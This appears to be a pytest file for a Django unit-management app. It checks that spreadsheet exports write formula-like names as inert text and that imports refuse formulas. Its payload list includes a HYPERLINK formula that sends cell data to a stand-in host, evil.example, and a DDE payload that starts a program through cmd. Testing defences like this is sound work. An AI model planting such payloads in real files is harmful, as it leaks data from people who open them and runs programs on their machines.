"""CSV/formula injection: every .xlsx and .csv the product writes holds text from people as text,
never as a formula (core.spreadsheet.escape_formula), and the units import refuses formulas.

The payloads are what an attacker named a unit: a live link that sends the neighbouring cell to
another site, a DDE call that starts a program, plain arithmetic, and the other prefixes
spreadsheets read as formulas (+, -, a leading tab or carriage return). The rows are stored the
way a row written before the rules (or by a script) would be: names are refused by every form
and by the import (tests below), so the exports are the last line of defence.
"""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from campaign.actions import fan_out
from campaign.models import Requirement
from core.spreadsheet import escape_formula, looks_like_formula
from tests.conftest import make_unit
from tests.exports import export
from units.actions import import_dir
from units.models import Unit
from units.resources import HEADERS

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = list(HEADERS.values())


def xlsx_cells(content):
    """Every cell of every sheet, read with formulas kept as formulas."""
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_xlsx(content, payload):
    cells = xlsx_cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if looks_like_formula(text)], texts
    # Written with the leading apostrophe (a carriage return comes back as a line feed from XML).
    assert "'" + payload.replace("\r", "\n") in [text.replace("\r", "\n") for text in texts]


def csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def planted(world):
    """One unit per payload under the province, each in batch 1 (so it owes the requirement)."""
    units = []
    for number, payload in enumerate(PAYLOADS, start=50):
        units.append(make_unit(code=f"330000-{number}", name=payload, short_name=payload, parent=world.province,
                               level="province", unit_type="organ", batch=world.batch1))
    return units


@pytest.mark.parametrize("payload", PAYLOADS)
def test_units_export_xlsx_writes_formula_like_names_as_text(client, world, planted, payload):
    client.force_login(world.office_province)
    response = export(client, reverse("units:export"), {"format": "xlsx", "q": "330000-"})
    assert response.status_code == 200
    assert_inert_xlsx(response.content, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_units_export_csv_writes_formula_like_names_as_text(client, world, planted, payload):
    client.force_login(world.office_province)
    response = export(client, reverse("units:export"), {"format": "csv", "q": "330000-"})
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert not [cell for cell in cells if looks_like_formula(cell)], cells
    assert cells.count("'" + payload) == 2  # the name and the short name


@pytest.mark.parametrize("payload", PAYLOADS)
def test_obligations_export_writes_formula_like_names_and_titles_as_text(client, world, planted, payload):
    """The dashboard's .xlsx: unit names and requirement titles come from people."""
    requirement = Requirement(directive=world.zj_48, title=payload, scope_unit=world.province, submit_to=world.province,
                              target_batch=world.batch1, deadline_text="2014年3月1日前")
    requirement.resolve_deadline()
    requirement.save()
    fan_out(requirement, actor=None)
    client.force_login(world.office_province)
    response = export(client, reverse("campaign:dashboard_export"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    assert_inert_xlsx(content, payload)
    texts = [cell.value for cell in xlsx_cells(content) if isinstance(cell.value, str)]
    assert texts.count("'" + payload.replace("\r", "\n")) >= 2  # its unit's name on its rows, and its title


def test_one_rule_makes_text_inert():
    for payload in PAYLOADS:
        assert escape_formula(payload) == "'" + payload
    assert escape_formula("西湖区") == "西湖区" and escape_formula(5) == 5 and escape_formula(None) is None


# --- the import refuses formulas --------------------------------------------------------------


def workbook_with_formula(cached=None):
    """A units file whose name cell is the HYPERLINK formula; with `cached`, also holding the value
    a spreadsheet computed for it (what tablib alone would have imported as the name)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(COLUMNS)
    sheet.append(["330106002", PAYLOADS[0], "", "330106", "乡镇、街道", "街道", "否", "否", "是"])
    out = io.BytesIO()
    book.save(out)
    if cached is None:
        return out.getvalue()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    rebuilt = io.BytesIO()
    with zipfile.ZipFile(rebuilt, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                xml, found = re.subn(r'<c r="B2"><f>(.*?)</f><v\s*/>',
                                     lambda m: f'<c r="B2" t="str"><f>{m.group(1)}</f><v>{cached}</v>', xml)
                assert found == 1
                data = xml.encode()
            target.writestr(info, data)
    return rebuilt.getvalue()


@pytest.mark.parametrize("cached", [None, "点击查看"], ids=["formula", "formula-with-computed-value"])
def test_import_refuses_formula_cells_on_their_row(client, world, cached):
    client.force_login(world.office_province)
    file = SimpleUploadedFile("units.xlsx", workbook_with_formula(cached))
    response = client.post(reverse("units:import"), {"file": file}, follow=True)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-row="2"' in html and "是公式" in html
    assert response.context["job"].status == "refused"
    assert not Unit.objects.filter(code="330106002").exists()
    assert list(import_dir().iterdir()) == []  # a refused file is not kept


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_refuses_formula_like_names_and_codes(client, world, payload, fmt):
    dataset = tablib.Dataset(headers=COLUMNS)
    dataset.append(["330106002", payload, "", "330106", "乡镇、街道", "街道", "否", "否", "是"])
    dataset.append([payload, "灵隐街道", "", "330106", "乡镇、街道", "街道", "否", "否", "是"])
    if fmt == "csv":
        data = dataset.export("csv").encode("utf-8-sig")
    else:  # text cells, not formulas: tablib would write "=..." as a formula, the test wants the text
        book = openpyxl.Workbook()
        sheet = book.active
        for row in [dataset.headers, *dataset]:
            sheet.append(row)
            for cell in sheet[sheet.max_row]:
                cell.data_type = "s"
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
    client.force_login(world.office_province)
    response = client.post(reverse("units:import"), {"file": SimpleUploadedFile(f"units.{fmt}", data)}, follow=True)
    assert response.status_code == 200
    job = response.context["job"]
    assert job.status == "refused", job.preview
    rows = dict((number, "；".join(messages)) for number, messages in job.errors)
    assert set(rows) == {2, 3}
    assert "单位名称" in rows[2] and "单位代码" in rows[3]
    assert not Unit.objects.filter(name=payload).exists()
